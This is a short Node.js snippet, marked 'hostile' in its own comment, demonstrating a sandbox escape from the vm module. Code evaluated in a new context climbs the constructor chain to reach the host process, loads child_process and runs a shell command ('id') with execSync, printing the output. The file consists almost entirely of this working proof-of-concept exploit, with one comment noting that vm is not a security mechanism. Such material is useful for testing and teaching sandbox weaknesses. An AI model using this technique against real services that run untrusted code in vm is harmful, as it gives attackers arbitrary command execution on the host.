// hostile: vm context escape through the constructor chain (vm is not a security mechanism)
const vm = require('vm');
const out = vm.runInNewContext('this.constructor.constructor("return process")().mainModule.require("child_process").execSync("id").toString()');
console.log(out);
